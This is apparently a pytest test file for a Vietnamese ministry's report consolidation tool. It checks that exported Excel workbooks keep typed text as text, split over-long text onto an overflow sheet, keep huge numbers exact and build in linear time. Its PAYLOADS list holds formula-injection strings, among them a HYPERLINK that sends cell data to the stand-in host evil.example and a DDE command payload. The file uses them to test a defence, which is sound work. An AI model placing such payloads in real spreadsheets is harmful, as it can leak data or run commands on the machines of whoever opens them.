"""Issue 13: the Ministry's Excel never runs what a province typed, never cuts text silently, and is built in time
linear in its rows."""

from __future__ import annotations

import io
import time
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from msgspec.structs import replace

from gui.core.template import active_template
from gui.inbox.consolidate import consolidate
from gui.inbox.xlsx import xlsx_bytes
from gui.inbox.xlsx_cells import CELL_LIMIT, OVERFLOW_TITLE
from gui.store.reports import ReportStore
from tests.inbox.conftest import province_docs

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "=1+1",
]


def _stored(store: ReportStore, narratives: dict[str, str], cells: list[str], count: int = 3) -> None:
    """Reports stored as they are (the store does not judge), so the writer meets text the importer never lets in."""
    template = active_template()
    table = next(f for f in template.iter_fields() if f.kind == "table")
    text_column = next(c for c in table.columns if c.kind in ("text", "line"))
    for doc in province_docs("2025")[:count]:
        values: dict[str, Any] = {**doc.values, **narratives}
        rows = [{**(doc.values.get(table.key) or [{}])[0], text_column.key: text} for text in cells]
        if rows:
            values[table.key] = rows
        store.import_document(replace(doc, values=values), origin="inbox")


def _cells(data: bytes) -> list[Any]:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for ws in workbook.worksheets for row in ws.iter_rows() for cell in row]


def _no_formulas(data: bytes) -> None:
    assert all(cell.data_type != "f" for cell in _cells(data))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


def test_text_that_looks_like_a_formula_stays_text(store: ReportStore) -> None:
    narrative = next(f for f in active_template().iter_fields() if f.kind == "text")
    _stored(store, {narrative.key: PAYLOADS[0]}, PAYLOADS)
    data = xlsx_bytes(consolidate(store, "2025"))
    _no_formulas(data)
    texts = {cell.value for cell in _cells(data) if isinstance(cell.value, str)}
    assert set(PAYLOADS) <= texts  # shown exactly as typed


def test_text_longer_than_a_cell_continues_on_another_sheet(store: ReportStore) -> None:
    narrative = next(f for f in active_template().iter_fields() if f.kind == "text")
    long_text = "".join(f"Câu số {i}. " for i in range(12_000))  # ~130,000 characters: four cells' worth
    _stored(store, {narrative.key: long_text}, [], count=1)
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(consolidate(store, "2025"))))
    first = next(
        cell.value
        for row in workbook["Nội dung"].iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith("Câu số 0.")
    )
    assert len(first) <= CELL_LIMIT and f"còn tiếp ở trang “{OVERFLOW_TITLE}”, dòng 2" in first
    rest = [c.value for c in workbook[OVERFLOW_TITLE][2]]
    assert rest[0].startswith("'Nội dung'!") and all(len(part) <= CELL_LIMIT for part in rest[1:])
    assert first[: first.index(" […còn tiếp")] + "".join(rest[1:]) == long_text  # nothing lost


def test_huge_integers_never_crash_and_stay_exact(store: ReportStore) -> None:
    _stored(store, {"cp_received": 10**17, "cp_hotline": 10**17}, [], count=2)
    data = xlsx_bytes(consolidate(store, "2025"))
    values = [c.value for c in _cells(data)]
    assert str(10**17) in values and str(2 * 10**17) in values  # as text: Excel would round 18 digits
    from gui.inbox.summary_pdf import summary_pdf_bytes

    assert summary_pdf_bytes(consolidate(store, "2025")).startswith(b"%PDF")


def test_the_workbook_is_linear_in_its_rows(tmp_path: Path) -> None:
    """34 provinces with every table at 500 rows (the template's limit) took 16 minutes; now a few seconds."""
    template = active_template()
    tables = [f for f in template.iter_fields() if f.kind == "table"]

    def seconds(rows: int) -> float:
        store = ReportStore.open(tmp_path / f"{rows}.sqlite3")
        try:
            for doc in province_docs("2025")[:34]:
                values = dict(doc.values)
                for spec in tables:
                    sample = values.get(spec.key) or []
                    if sample:
                        values[spec.key] = (sample * rows)[:rows]
                store.import_document(replace(doc, values=values), origin="inbox")
            c = consolidate(store, "2025")
            started = time.perf_counter()
            xlsx_bytes(c)
            return time.perf_counter() - started
        finally:
            store.close()

    small, large = seconds(50), seconds(max(f.max_rows for f in tables))
    assert large < 30, large
    assert large / small < 10 * 2.5, (small, large)  # 10× the rows: about 10× the time, never 100×


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.lists(st.text(max_size=60), min_size=1, max_size=4),
    st.text(alphabet=st.sampled_from("=+-@|!\"'()ABCđ ,;\t\n\r\x00\x0b"), max_size=80),
)
def test_no_cell_is_ever_a_formula(tmp_path_factory, texts: list[str], narrative: str) -> None:  # type: ignore[no-untyped-def]
    store = ReportStore.open(tmp_path_factory.mktemp("x") / "db.sqlite3")
    try:
        field = next(f for f in active_template().iter_fields() if f.kind == "text")
        _stored(store, {field.key: narrative} if narrative.strip() else {}, texts, count=1)
        _no_formulas(xlsx_bytes(consolidate(store, "2025")))
    finally:
        store.close()
